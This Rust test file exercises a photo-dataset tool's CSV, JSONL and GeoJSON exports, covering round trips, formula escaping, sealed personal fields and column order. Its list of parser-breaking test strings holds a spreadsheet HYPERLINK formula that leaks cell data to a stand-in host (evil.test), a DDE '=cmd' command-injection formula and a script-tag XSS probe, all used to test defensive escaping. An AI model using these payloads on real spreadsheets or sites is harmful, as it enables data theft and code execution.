//! Exports: round trips, safety in spreadsheets, and personal fields that stay sealed by default.

mod camtrap;
mod citation;
mod dwca;
mod gis;
mod manifest;
mod outline;
mod selected;

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::process::{Command, Stdio};
use std::sync::Arc;

use gleaner::dataset::Dataset;
use gleaner::export::{self, EXPORTS, Export, ExportContext, ExportSummary, OptionValues, csv::safe_text};
use gleaner::photo::filter::Filter;
use gleaner::photo::{
    AcceptedTaxon, Camera, CentreOf, CitedDataset, City, Classification, Described, EvidenceKind, Fault, Found,
    Identification, IdentificationBasis, Identifications, ImageFile, Interval, Label, Labels, Location, NamedIn,
    Observation, OtherRecord, Personal, PersonalField, Photo, PhotoId, Place, Probabilities, RangeComparison,
    RecognisedBy, ReviewedTaxon, Score, ScoreKey, Setting, SettingEvidence, SettingName, Size, StageName, Subdivision,
    SubdivisionOrigin, Taken, Taxon, Thumbnail, Unknown, fields,
};
use gleaner::seal::{Key, SealedPhoto, Vault};
use gleaner::sources::flickr::codes;
use gleaner::store::Store;
use proptest::prelude::*;
use serde_json::{Map, Value, json};

use super::memory::Memory;

const CSV: &str = "csv";
const JSONL: &str = "jsonl";

const KEY: &str = "cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=";

/// Texts that are known to break parsers.
const NASTY: [&str; 36] = [
    "",
    " ",
    "plain",
    "comma, semicolon; tab\there",
    "\"quoted\"",
    "\"",
    "\"\"\"\",",
    "two\nlines",
    "two\r\nlines",
    "old\rMac",
    "\n",
    "ends with a quote\"\n",
    "=1+1",
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
    "=cmd|'/C calc'!A0",
    "+49 170 000000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    "'quoted'",
    "'",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "🐒👨‍👩‍👧‍👦🇮🇹",
    "مرحبا بالعالم \u{202e}gnirts\u{202c}",
    "Z̷̢̛a̴l̸g̵o̶ é e\u{301}",
    "\u{feff}byte order mark",
    "line\u{2028}separator\u{2029}",
    "<script>alert(1)</script>",
    "a | b \\ | c",
    "NULL nan -0 1e309 0x10 true",
];

/// The columns of the first release. Their positions must never change.
const FIRST_COLUMNS: &str = "\
    id source state title description tags machine_tags media searches.term searches.rank searches.bbox \
    landing_url image_url file_name file_path views faves comments license.id license.name license.url \
    license.source_id license.seen_on attribution changes taken.local taken.granularity taken.unknown posted_at \
    updated_at found_at downloaded_at location.latitude location.longitude location.uncertainty_m \
    location.accuracy location.origin place.country place.country_name place.claims place.subdivision.code \
    place.subdivision.name place.subdivision.origin place.city.name place.city.geonameid place.city.distance_km \
    place.city.direction place.at_sea place.offshore_km place.sea place.border_uncertain place.data_version \
    camera.make camera.model camera.lens camera.exposure_time_s camera.f_number camera.iso \
    camera.exposure_bias_ev camera.focal_length_mm camera.focal_length_35mm camera.flash_fired file.sha256 \
    file.stored_sha256 file.format file.width file.height file.orientation file.bytes file.stored_bytes \
    sizes.label sizes.url sizes.width sizes.height thumbnail.width thumbnail.height thumbnail.thumbhash \
    owner_pseudonym fault.stage fault.kind fault.message";

fn columns() -> Vec<&'static str> {
    fields::columns().map(|column| column.path).collect()
}

fn vault() -> Vault {
    Vault::new(Key::parse(KEY).unwrap())
}

fn titled(own: &str, title: &str) -> Photo {
    Photo { id: PhotoId::new("flickr", own), title: title.into(), ..Photo::default() }
}

fn described(at: jiff::Timestamp) -> Described {
    Described {
        raw_tags: vec!["Doho Lodge".into()],
        neighbourhood: Some("Lake side".into()),
        locality: Some("Awash".into()),
        county: Some("Zone 3".into()),
        region: Some("Afar".into()),
        country: Some("Ethiopia".into()),
        at,
    }
}

fn searches() -> Vec<Found> {
    vec![
        Found {
            term: "monkey wild".into(),
            rank: 3,
            bbox: Some("-10,4,127,22".into()),
            criteria: Some("license:open".into()),
            language: Some("en".into()),
            source: Some("gbif".into()),
        },
        Found { term: "猿".into(), rank: 1, ..Found::default() },
    ]
}

fn identifications() -> Identifications {
    let monkey = Identification { verbatim: "monkey".into(), taxa: vec![macaque()], ..Identification::default() };
    Identifications { taxon: Some(macaque()), basis: Some(IdentificationBasis::Words.into()), all: vec![monkey] }
}

fn setting() -> Setting {
    let zoo = SettingEvidence {
        kind: EvidenceKind::Words.into(),
        verbatim: "zoo".into(),
        named_in: Some(NamedIn::Title.into()),
        setting: SettingName::Captive.into(),
        weight: 4.0,
        ..SettingEvidence::default()
    };
    Setting {
        name: SettingName::Captive.into(),
        probability: 0.9161,
        probabilities: Probabilities::from([0.0168, 0.0168, 0.9161, 0.0168, 0.0168, 0.0167]),
        calibrated: false,
        model: "assumed 2".into(),
        evidence: vec![zoo],
    }
}

/// A photo with a value in every field. It names all fields, so that a new field does not compile until it is
/// filled here, and a missing column is noticed.
fn full() -> Photo {
    let now = "2026-05-01T12:00:00Z".parse().unwrap();
    let mut photo = Photo {
        id: PhotoId::new("flickr", "1"),
        searches: searches(),
        title: "A monkey".into(),
        description: "<b>wild</b>".into(),
        tags: vec!["macaca".into(), "=2+5".into()],
        machine_tags: vec!["taxonomy:genus=macaca".into()],
        media: "photo".into(),
        kind: Some("screenshot".into()),
        landing_url: Some("https://example.test/1".into()),
        image_url: Some("https://img.example.test/1_b.jpg".into()),
        file_name: Some("1_b.jpg".into()),
        sizes: vec![
            Size { label: "l".into(), url: "https://img.example.test/l".into(), width: 1024, height: 768 },
            Size { label: "o".into(), url: "https://img.example.test/o".into(), width: 4000, height: 3000 },
        ],
        views: Some(12),
        faves: Some(3),
        comments: Some(0),
        license: Some(codes::license(5, "2026-05-01".parse().unwrap())),
        attribution: Some("Jane Example".into()),
        changes: Some("cropping".into()),
        taken: Some(Taken {
            local: "2025-01-02T03:04:05".parse().ok(),
            granularity: Some("interval".into()),
            unknown: false,
            utc_offset: Some("-04:00".into()),
            time_zone: Some("America/Santiago".into()),
            interval: Some(Interval {
                start_granularity: Some("second".into()),
                end: "2025-01-03T00:00:00".parse().ok(),
                end_granularity: Some("minute".into()),
                end_utc_offset: Some("+00:00".into()),
            }),
        }),
        posted_at: Some(now),
        updated_at: Some(now),
        found_at: Some(now),
        checked_at: Some(now),
        other_records: vec![other_record(now)],
        same_as: None,
        described: Some(described(now)),
        location: Some(Location {
            obscured: true,
            altitude_m: Some(12.5),
            direction_deg: Some(270.0),
            ..codes::with_accuracy(Location::new(-33.5, -70.25).unwrap(), 16)
        }),
        verbatim_coordinates: Some("0, 0".into()),
        taxon: Some(macaque()),
        identifications: Some(identifications()),
        accepted_taxon: Some(AcceptedTaxon {
            name: "Macaca irus".into(),
            taxon: Some(macaque()),
            checklist: "GBIF".into(),
            at: now,
        }),
        reviewed_taxon: Some(ReviewedTaxon { taxon: Some(macaque()), at: now }),
        range: Some(range()),
        setting: Some(setting()),
        observation: Some(Observation {
            id: "57754375".into(),
            quality_grade: Some("research".into()),
            captive: Some(false),
        }),
        dataset: Some(CitedDataset {
            key: "50c9509d-22c7-4a22-a47d-8c48425ef4a7".into(),
            title: Some("Observations of monkeys".into()),
            publisher: Some("28eb1a3f-1c15-4a95-931a-4af90ecb574d".into()),
        }),
        file: Some(file(now)),
        thumbnail: Some(Thumbnail {
            width: 320,
            height: 240,
            thumbhash: "+A==".into(),
            sha256: Some("ef".repeat(32).parse().unwrap()),
            pdq: Some("0f".repeat(32)),
            pdq_quality: Some(90),
        }),
        camera: Some(camera()),
        from_file: Some(vec!["title".into()]),
        place: Some(place()),
        scores: [(ScoreKey::main("wild"), Score::known(0.25, "model", "1"))].into(),
        labels: [("vision".to_owned(), labels(now))].into(),
        owner_pseudonym: Some("0123456789abcdef01234567".into()),
        fault: Some(Fault::temporary(StageName::Thumbnail, "no space")),
        unknown: Unknown::default(),
        personal: Personal::default(),
        unasked: std::collections::BTreeSet::new(),
        received: None,
    };
    photo.personal.find(PersonalField::Owner, "11111111@N00");
    photo.personal.find(PersonalField::OwnerName, "=Zoë \"Ünique\" 🐒");
    photo.personal.find(PersonalField::PathAlias, Value::Null);
    photo.personal.find(PersonalField::Exif, json!({"BodySerialNumber": "0012345"}));
    photo.personal.find(PersonalField::RawRecord, "{broken");
    photo
}

fn range() -> RangeComparison {
    RangeComparison {
        species: "Macaca fascicularis".into(),
        distance_m: 15_500_000,
        cell_m: Some(96_500),
        layer: "phylacine".into(),
        layer_sha256: "0".repeat(64),
    }
}

fn macaque() -> Taxon {
    Taxon {
        scientific_name: "Macaca fascicularis".into(),
        vernacular_name: Some("Long-tailed Macaque".into()),
        rank: Some("species".into()),
        iconic_group: Some("Mammalia".into()),
        source_id: Some("43459".into()),
        iucn_category: Some("EN".into()),
        classification: Some(Classification {
            kingdom: Some("Animalia".into()),
            phylum: Some("Chordata".into()),
            class: Some("Mammalia".into()),
            order: Some("Primates".into()),
            family: Some("Cercopithecidae".into()),
            genus: Some("Macaca".into()),
        }),
    }
}

/// A record whose licence is stricter than the photo's own.
fn other_record(now: jiff::Timestamp) -> OtherRecord {
    OtherRecord {
        id: PhotoId::new("openverse", "0f00"),
        landing_url: Some("https://openverse.org/image/0f00".into()),
        license: Some(codes::license(6, "2026-05-01".parse().unwrap())),
        recognised_by: RecognisedBy::Id.into(),
        checked_at: Some(now),
    }
}

fn file(now: jiff::Timestamp) -> ImageFile {
    ImageFile {
        sha256: "ab".repeat(32).parse().unwrap(),
        stored_sha256: "cd".repeat(32),
        format: "jpeg".into(),
        width: 4000,
        height: 3000,
        orientation: 6,
        bytes: 99,
        stored_bytes: 88,
        downloaded_at: now,
        end_marker_added: true,
        animation_removed: true,
        not_decoded: Some("decoding takes 300 MiB".into()),
    }
}

fn camera() -> Camera {
    Camera {
        make: Some("Make".into()),
        model: Some("Model".into()),
        lens: Some("Lens".into()),
        exposure_time_s: Some(0.0005),
        f_number: Some(2.8),
        iso: Some(200),
        exposure_bias_ev: Some(-0.33),
        focal_length_mm: Some(50.0),
        focal_length_35mm: Some(75),
        flash_fired: Some(false),
    }
}

fn place() -> Place {
    Place {
        country: Some("CL".into()),
        country_name: Some("Chile".into()),
        claims: vec!["CL".into()],
        subdivision: Some(Subdivision {
            code: "CL-RM".into(),
            name: Some("Santiago".into()),
            origin: SubdivisionOrigin::Polygon.into(),
        }),
        city: Some(City { name: "Santiago".into(), geonameid: 3_871_336, distance_km: 1.5, direction: "SE".into() }),
        locality: Some(City {
            name: "Bellavista".into(),
            geonameid: 3_899_539,
            distance_km: 0.4,
            direction: "N".into(),
        }),
        at_sea: false,
        offshore_km: Some(0.5),
        sea: Some("South Pacific".into()),
        centre: Some(CentreOf::Capital.into()),
        time_zone: Some("America/Santiago".into()),
        border_uncertain: true,
        data_version: "1".into(),
    }
}

fn labels(now: jiff::Timestamp) -> Labels {
    let cage = Label { description: "Cage".into(), score: 0.75, mid: Some("/m/1".into()) };
    Labels { version: "1".into(), at: Some(now), labels: vec![cage], refused: None }
}

fn seal(photos: Vec<Photo>) -> Vec<SealedPhoto> {
    photos.into_iter().map(|photo| vault().seal(photo).unwrap()).collect()
}

fn written(photos: Vec<Photo>, format: &str, open: Option<Vault>) -> String {
    let count = photos.len() as u64;
    let mut out = Vec::new();
    assert_eq!(write(&Memory::of(&seal(photos)), format, open, &mut out).unwrap(), count);
    String::from_utf8(out).unwrap()
}

/// Writes all photos of a store in a format, decrypted with a vault, and returns their number.
pub fn write(store: &dyn Store, format: &str, open: Option<Vault>, out: &mut dyn Write) -> anyhow::Result<u64> {
    let sealed = ExportContext::sealed(Dataset::at("nowhere"));
    let context = ExportContext { unseal: open.is_some(), vault: open.map(Arc::new), ..sealed };
    let export = Export::open(export::format(format).unwrap(), &context, Filter::default())?;
    Ok(export.write_all(store, out)?.0)
}

fn table(text: &str) -> Vec<BTreeMap<String, String>> {
    let text = text.strip_prefix('\u{feff}').expect("a byte order mark");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader.deserialize().map(Result::unwrap).collect()
}

fn lines(text: &str) -> Vec<Value> {
    assert!(text.is_empty() || text.ends_with('\n'));
    text.split_terminator('\n').map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
fn cells_that_excel_cuts_are_whole_and_named() {
    let notes = |titles: &[String]| {
        let photos = titles.iter().enumerate().map(|(nth, title)| titled(&nth.to_string(), title)).collect();
        let (sealed, mut out) = (seal(photos), Vec::new());
        let context = ExportContext::sealed(Dataset::at("nowhere"));
        let export = Export::open(export::format(CSV).unwrap(), &context, Filter::default()).unwrap();
        let (_, summary) = export.write_all(&Memory::of(&sealed), &mut out).unwrap();
        let rows = table(&String::from_utf8(out).unwrap());
        assert_eq!(rows.iter().map(|row| row["title"].clone()).collect::<Vec<_>>(), titles);
        summary.notes
    };
    let of = |text: &str, count: usize| text.repeat(count);
    // Excel counts UTF-16 code units: a monkey has two, and an accented letter one.
    assert!(notes(&[of("x", 32_767), of("é", 32_767), of("🐒", 16_383), String::new()]).is_empty());
    for (titles, cells) in [
        (vec![of("x", 32_768)], "1 cell has"),
        (vec![of("🐒", 16_384), "short".to_owned(), of("é", 32_768)], "2 cells have"),
    ] {
        let notes = notes(&titles);
        assert_eq!(notes.len(), 1, "{notes:?}");
        assert!(notes[0].starts_with(&format!("title: {cells} more than 32767 characters")), "{notes:?}");
    }
}

#[test]
fn nasty_texts_come_back_the_same_from_both_formats() {
    let photos = || NASTY.iter().enumerate().map(|(nth, title)| titled(&format!("{nth:03}"), title)).collect();
    let (rows, objects) = (table(&written(photos(), CSV, None)), lines(&written(photos(), JSONL, None)));
    assert_eq!((rows.len(), objects.len()), (NASTY.len(), NASTY.len()));
    for ((row, object), title) in rows.iter().zip(&objects).zip(NASTY) {
        assert_eq!(without_guard(&row["title"]), title);
        assert_eq!(object["title"], title);
    }
}

#[test]
fn control_characters_become_control_pictures_in_csv_and_stay_in_json() {
    let title = "\0=a\x1b[31mred\x7f";
    let csv = written(vec![titled("1", title)], CSV, None);
    assert!(csv.chars().all(|c| !c.is_control() || matches!(c, '\r' | '\n')));
    assert_eq!(table(&csv)[0]["title"], "'\u{2400}=a\u{241b}[31mred\u{2421}");
    assert_eq!(lines(&written(vec![titled("1", title)], JSONL, None))[0]["title"], title);
}

#[test]
fn negative_numbers_are_numbers_too() {
    let rows = table(&written(vec![full()], CSV, None));
    for (column, number) in [
        ("location.latitude", -33.5),
        ("location.longitude", -70.25),
        ("camera.exposure_bias_ev", -0.33),
        ("camera.exposure_time_s", 0.0005),
        ("scores.wild.value", 0.25),
    ] {
        assert_eq!(rows[0][column].parse::<f64>(), Ok(number), "{column}");
    }
}

/// Dotted paths of all values in a JSON value, including those in lists.
fn paths(value: &Value, prefix: &str, found: &mut Vec<String>) {
    match value {
        Value::Object(object) => object.iter().for_each(|(name, value)| {
            let path = if prefix.is_empty() { name.clone() } else { format!("{prefix}.{name}") };
            paths(value, &path, found);
        }),
        Value::Array(items) if items.iter().any(Value::is_object) => {
            for item in items {
                paths(item, prefix, found);
            }
        }
        _ => found.push(prefix.to_owned()),
    }
}

#[test]
fn every_json_field_has_a_column_with_the_same_value() {
    let row = table(&written(vec![full()], CSV, None)).remove(0);
    let mut object = lines(&written(vec![full()], JSONL, None)).remove(0);
    let mut found = Vec::new();
    paths(&object, "", &mut found);
    let elsewhere = ["file.downloaded_at", "scores.wild.scorer", "scores.wild.version"];
    found.retain(|path| !elsewhere.contains(&path.as_str()));
    let column = |path: &str| columns().iter().any(|column| path.starts_with(&format!("{column}.")));
    let missing: Vec<_> = found.iter().filter(|path| !row.contains_key(*path) && !column(path)).collect();
    assert!(missing.is_empty(), "no columns for {missing:?}");
    // An interval has no time of day.
    let taken = full().taken.map(|taken| Taken { granularity: Some("second".into()), interval: None, ..taken });
    let exact = table(&written(vec![Photo { taken, ..full() }], CSV, None)).remove(0);
    let is_empty = |column: &&str| row[*column].is_empty() && exact[*column].is_empty();
    let empty: Vec<_> = columns().into_iter().filter(is_empty).collect();
    assert!(empty.is_empty(), "{empty:?}");
    assert_eq!(row["taken.edtf"], "2025-01-02T03:04:05-04:00/2025-01-03T00:00Z");
    assert_eq!(serde_json::from_str::<Value>(&row["labels"]).unwrap(), object["labels"].take());
    assert_eq!(row["searches.term"], "monkey wild | 猿");
    assert_eq!(row["searches.rank"], "3 | 1");
    assert_eq!(row["searches.bbox"], "'-10,4,127,22 | ");
    assert_eq!(row["tags"], "macaca | =2+5");
    assert_eq!(row["thumbnail.thumbhash"], "'+A==");
    assert_eq!(row["file_path"], object["file_path"].take().as_str().unwrap());
    assert_eq!((row["state"].as_str(), row["source"].as_str()), ("failed", "flickr"));
}

#[test]
fn columns_keep_their_positions_and_scores_come_last() {
    let scored = |own: &str, concept: &str| {
        let score = Score::known(1.0, "s", "1");
        Photo { scores: [(ScoreKey::main(concept), score)].into(), ..titled(own, "t") }
    };
    let csv = written(vec![scored("1", "猿"), titled("2", "t"), scored("3", "=x")], CSV, None);
    assert!(csv.starts_with('\u{feff}') && csv.ends_with("\r\n") && !csv.replace("\r\n", "").contains(['\r', '\n']));
    let head: Vec<_> = csv.trim_start_matches('\u{feff}').lines().next().unwrap().split(',').collect();
    let columns = columns();
    assert_eq!(&head[..columns.len()], columns);
    let first: Vec<_> = FIRST_COLUMNS.split(' ').collect();
    assert_eq!(&head[..first.len()], first);
    let rest = ["owner_name", "path_alias", "owner", "exif", "raw_record", "comments", "exif_api"];
    let rest = rest.map(|field| format!("sealed.{field}"));
    assert_eq!(&head[columns.len()..columns.len() + 7], rest);
    assert_eq!(&head[columns.len() + 7..], ["scores.=x.value", "scores.猿.value"]);
    let none = written(Vec::new(), CSV, None);
    assert_eq!((none.lines().count(), table(&none).len()), (1, 0), "an empty dataset has a header");
    assert_eq!(written(Vec::new(), JSONL, None), "");
}

#[test]
fn personal_fields_stay_sealed_without_a_vault() {
    let people = ["Ünique", "11111111", "0012345", "{broken"];
    for format in [CSV, JSONL] {
        let sealed = written(vec![full()], format, None);
        assert!(people.iter().all(|person| !sealed.contains(person)) && !sealed.contains("personal"));
        assert!(sealed.contains("gAAAA"));
        let opened = written(vec![full()], format, Some(vault()));
        assert!(people.iter().all(|person| opened.contains(person)) && !opened.contains("gAAAA"));
    }
    let row = table(&written(vec![full()], CSV, Some(vault()))).remove(0);
    assert_eq!(row["personal.owner_name"], "'=Zoë \"Ünique\" 🐒");
    assert_eq!(row["personal.path_alias"], "");
    assert_eq!(row["personal.exif"], r#"{"BodySerialNumber":"0012345"}"#);
    assert_eq!(row["personal.raw_record"], r#""{broken""#);
    let object = lines(&written(vec![full()], JSONL, Some(vault()))).remove(0);
    assert_eq!(object["personal"]["path_alias"], Value::Null);
    assert_eq!(object["personal"]["raw_record"], "{broken");
}

#[test]
fn a_foreign_key_decrypts_nothing() {
    let sealed = Memory::of(&seal(vec![full()]));
    for format in [CSV, JSONL] {
        assert!(write(&sealed, format, Some(Vault::new(Key::generate())), &mut Vec::new()).is_err());
    }
}

#[test]
fn more_photos_than_one_read_of_the_store_are_all_written_once() {
    let photos = || (0..1300).map(|nth| titled(&format!("{nth:05}"), "t")).collect::<Vec<_>>();
    let ids: Vec<_> = table(&written(photos(), CSV, None)).into_iter().map(|row| row["id"].clone()).collect();
    assert_eq!(ids, photos().iter().map(|photo| photo.id.to_string()).collect::<Vec<_>>());
    assert_eq!(lines(&written(photos(), JSONL, None)).len(), 1300);
}

#[test]
fn every_registered_format_is_complete_and_named_once() {
    let names: Vec<_> = EXPORTS.iter().flat_map(|format| format.aliases.iter().chain([&format.name])).collect();
    assert_eq!(names.iter().collect::<BTreeSet<_>>().len(), names.len(), "{names:?}");
    let docs = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/export.md")).unwrap();
    for format in EXPORTS {
        assert!(docs.contains(&format!("`{}`", format.name)), "docs/export.md does not describe {}", format.name);
        assert!(!format.targets.is_empty() && format.media_type.contains('/') && !format.suffix.starts_with('.'));
    }
}

/// Photos at these places, numbered from the first id; `None` has no coordinates.
fn placed(places: &[Option<(f64, f64)>]) -> Vec<Photo> {
    let photo = |(nth, place): (usize, &Option<(f64, f64)>)| Photo {
        location: place.and_then(|(latitude, longitude)| Location::new(latitude, longitude)),
        ..titled(&format!("{nth:03}"), NASTY[nth % NASTY.len()])
    };
    places.iter().enumerate().map(photo).collect()
}

/// An export with options, and its summary.
fn exported(photos: Vec<Photo>, format: &str, options: &[(&str, &str)]) -> (Value, ExportSummary) {
    let format = export::format(format).unwrap();
    let given = options.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned()));
    let options = OptionValues::of(format, given).unwrap();
    let context = ExportContext { options, ..ExportContext::sealed(Dataset::at("nowhere")) };
    let mut out = Vec::new();
    let export = Export::open(format, &context, Filter::default()).unwrap();
    let (_, summary) = export.write_all(&Memory::of(&seal(photos)), &mut out).unwrap();
    (serde_json::from_slice(&out).unwrap(), summary)
}

#[test]
fn geojson_has_a_point_for_every_photo_with_coordinates_and_counts_the_others() {
    let places = [None, Some((-33.5, -70.25)), Some((90.0, 180.0)), None, Some((0.5, -180.0))];
    let (collection, summary) = exported(placed(&places), "geojson", &[]);
    assert_eq!(collection["type"], "FeatureCollection");
    let features = collection["features"].as_array().unwrap();
    let points: Vec<_> = features.iter().map(|feature| feature["geometry"]["coordinates"].clone()).collect();
    assert_eq!(points, [json!([-70.25, -33.5]), json!([180.0, 90.0]), json!([-180.0, 0.5])]);
    assert_eq!((summary.rows, &summary.counts["left_out"]), (Some((3, "features")), &json!(2)));
    assert_eq!(summary.notes, ["left out: 2 photos without coordinates"]);
    let (collection, summary) = exported(placed(&places), "geojson", &[("without-place", "keep")]);
    let features = collection["features"].as_array().unwrap();
    assert_eq!(features.iter().filter(|feature| feature["geometry"].is_null()).count(), 2);
    assert_eq!((features.len(), summary.notes.len()), (5, 0));
}

#[test]
fn geojson_properties_are_public_fields_by_dotted_name() {
    let (collection, _) = exported(vec![full()], "geojson", &[]);
    let feature = &collection["features"][0];
    assert_eq!(feature["id"], "flickr:1");
    let properties = feature["properties"].as_object().unwrap();
    assert!(properties.values().all(|value| !value.is_object()), "{properties:?}");
    assert_eq!(properties["place.country"], "CL");
    assert_eq!(properties["scores.wild.value"], 0.25);
    assert_eq!(properties["searches.term"], json!(["monkey wild", "猿"]));
    assert_eq!(properties["searches.bbox"], json!(["-10,4,127,22", null]));
    assert!(properties["location.uncertainty_m"].is_number());
    let row = table(&written(vec![full()], CSV, None)).remove(0);
    let unknown = ["file.downloaded_at", "scores.wild.scorer", "scores.wild.version"];
    // The CSV has labels and identifications in one cell, GeoJSON each of their fields by its name.
    let label = |name: &&String| name.starts_with("labels.vision.");
    assert_eq!(properties.keys().filter(label).count(), 5, "{properties:?}");
    let in_cell = |name: &&String| {
        let starts = |field: &str| name.starts_with(field);
        label(name) || starts("identifications.") || starts("setting.probabilities") || starts("setting.evidence")
    };
    let strange: Vec<_> = properties.keys().filter(|name| !row.contains_key(*name) && !in_cell(name)).collect();
    assert_eq!(strange, unknown, "all other properties are columns of the CSV");
    let mut missing = columns();
    missing.retain(|column| !row[*column].is_empty() && !properties.contains_key(*column));
    assert_eq!(missing, ["location.latitude", "location.longitude", "labels", "identifications", "setting"]);
    let text = collection.to_string();
    assert!(!text.contains("gAAAA") && !text.contains("11111111") && !text.contains("Ünique"));
}

/// Checks RFC 7946 in Python, also with the package `geojson` if it is installed.
const RFC_7946: &str = r#"
import json, sys
for name in ("none", "some", "nasty"):
    text = open(name + ".geojson", encoding="utf-8").read()
    data = json.loads(text, parse_constant=lambda word: sys.exit(word + " is no JSON"))
    assert data["type"] == "FeatureCollection" and set(data) == {"type", "features"}, data.keys()
    for feature in data["features"]:
        assert set(feature) == {"type", "id", "geometry", "properties"} and feature["type"] == "Feature"
        assert isinstance(feature["id"], str) and isinstance(feature["properties"], dict)
        geometry = feature["geometry"]
        if geometry is not None:
            east, north = geometry["coordinates"]
            assert geometry["type"] == "Point" and -180 <= east <= 180 and -90 <= north <= 90
    try:
        import geojson
        assert geojson.loads(text).is_valid, geojson.loads(text).errors()
    except ImportError:
        pass
    print(len(data["features"]))
"#;

#[test]
fn python_reads_the_geojson_even_of_an_empty_dataset() {
    let folder = tempfile::tempdir().unwrap();
    let nasty: Vec<_> = (0..NASTY.len()).map(|nth| (nth % 3 > 0).then_some((nth as f64, -(nth as f64)))).collect();
    let files = [("none", Vec::new()), ("some", vec![full()]), ("nasty", placed(&nasty))];
    for (name, photos) in files {
        let text = written(photos, "geojson", None);
        std::fs::write(folder.path().join(format!("{name}.geojson")), text).unwrap();
    }
    let Some(said) = python(RFC_7946, folder.path()) else { return };
    assert_eq!(said.lines().collect::<Vec<_>>(), ["0", "1", "24"]);
}

/// The Python code under a heading of docs/export.md, as users copy it.
fn snippet(nth: usize) -> String {
    let docs = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/export.md")).unwrap();
    docs.split("```python\n").nth(nth + 1).unwrap().split("```").next().unwrap().to_owned()
}

fn python(script: &str, folder: &std::path::Path) -> Option<String> {
    python_with("cryptography", script, folder)
}

/// What a script prints, if Python has these modules: `a, b`.
pub fn python_with(modules: &str, script: &str, folder: &std::path::Path) -> Option<String> {
    let python = std::env::var_os("GLEANER_PYTHON").unwrap_or_else(|| "python3".into());
    let have = Command::new(&python).args(["-c", &format!("import {modules}")]).stderr(Stdio::null()).status();
    if !have.is_ok_and(|status| status.success()) {
        assert!(std::env::var_os("GLEANER_CI").is_none(), "must not be skipped here: no Python with {modules}");
        println!("skipped: no Python with the packages {modules}");
        return None;
    }
    let mut child = Command::new(&python)
        .args(["-X", "utf8", "-"])
        .current_dir(folder)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(script.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "Python refused:\n{script}");
    Some(String::from_utf8(output.stdout).unwrap())
}

#[test]
fn the_python_of_the_docs_reads_both_formats_and_opens_a_token() {
    let folder = tempfile::tempdir().unwrap();
    let photos = || {
        let nasty = NASTY.iter().enumerate().map(|(nth, title)| titled(&format!("a{nth:03}"), title));
        std::iter::once(full()).chain(nasty).collect::<Vec<_>>()
    };
    for (name, format) in [("monkeys.csv", CSV), ("monkeys.jsonl", JSONL)] {
        std::fs::write(folder.path().join(name), written(photos(), format, None)).unwrap();
    }
    std::fs::write(folder.path().join("monkeys.key"), format!("{KEY}\n")).unwrap();
    let show =
        "\nprint(json.dumps([r['title'] for r in rows]))\nprint(sum(r['location.longitude'] or 0 for r in rows))\n";
    let Some(said) = python(&format!("import json\n{}{show}", snippet(1)), folder.path()) else { return };
    let last: Vec<&str> = said.lines().rev().take(2).collect();
    let expected: Vec<_> = std::iter::once("A monkey").chain(NASTY).collect();
    assert_eq!(serde_json::from_str::<Vec<String>>(last[1]).unwrap(), expected);
    assert_eq!(last[0].parse::<f64>(), Ok(-70.25));
    let said = python(&format!("{}\nprint(len(photos))\n", snippet(2)), folder.path()).unwrap();
    assert_eq!(said.lines().last(), Some("37"));
    let said = python(&format!("{}\nprint(json.dumps(owner))\n", snippet(3)), folder.path()).unwrap();
    assert_eq!(serde_json::from_str::<Value>(said.lines().last().unwrap()).unwrap(), json!("11111111@N00"));
}

#[test]
fn the_pandas_call_of_the_docs_reads_namibia_and_no_value_apart() {
    let folder = tempfile::tempdir().unwrap();
    let photos = ["NA", "CL", ""].iter().zip(0..).map(|(country, nth)| {
        let country = Some((*country).to_owned()).filter(|country| !country.is_empty());
        Photo { place: Some(Place { country, ..Place::default() }), ..titled(&format!("{nth}"), "NA") }
    });
    std::fs::write(folder.path().join("monkeys.csv"), written(photos.collect(), CSV, None)).unwrap();
    let show = "\nprint(photos['place.country'].fillna('missing').tolist() + photos['title'].tolist())\n";
    let Some(said) = python(&format!("{}{show}", snippet(0)), folder.path()) else { return };
    assert_eq!(said.trim(), "['NA', 'CL', 'missing', 'NA', 'NA', 'NA']");
}

/// The original text of a cell that `safe_text` wrote, as docs/export.md tells readers to restore it.
fn without_guard(cell: &str) -> &str {
    let is_formula =
        |text: &str| text.trim_start_matches('\'').starts_with(|c: char| "=+-@\t\r\n\u{2400}＝＋－＠".contains(c));
    cell.strip_prefix('\'').filter(|text| is_formula(text)).unwrap_or(cell)
}

proptest! {
    #[test]
    fn no_text_starts_a_formula_and_every_text_can_be_recovered(text in "[=+@'\t\r\n＝＠ a-]{0,4}\\PC{0,12}") {
        let cell = safe_text(&text);
        prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']), "{cell:?}");
        prop_assert_eq!(without_guard(&cell), text);
    }

    #[test]
    fn no_cell_holds_a_control_character(text in "(?s).{0,20}") {
        let cell = safe_text(&text);
        let cell = without_guard(&cell);
        prop_assert!(cell.chars().all(|c| !c.is_ascii_control() || matches!(c, '\t' | '\n' | '\r')));
        prop_assert_eq!(cell.chars().count(), text.chars().count());
    }

    #[test]
    fn any_title_round_trips_in_both_formats(title in "(?s).{0,30}") {
        let object = lines(&written(vec![titled("1", &title)], JSONL, None)).remove(0);
        prop_assert_eq!(&object["title"], &Value::from(title.clone()));
        let rows = table(&written(vec![titled("1", &title)], CSV, None));
        let pictured: String = without_guard(&safe_text(&title)).to_owned();
        prop_assert_eq!(without_guard(&rows[0]["title"]), pictured);
    }
}

#[test]
fn files_readable_without_a_key_contain_no_tokens_and_no_personal_data() {
    let sealed = seal(vec![full()]).remove(0);
    let public: Map<String, Value> = export::public(&sealed).unwrap();
    let text = Value::Object(public).to_string();
    assert!(!text.contains("gAAAA") && !text.contains("11111111") && text.contains("\"file_path\""));
}
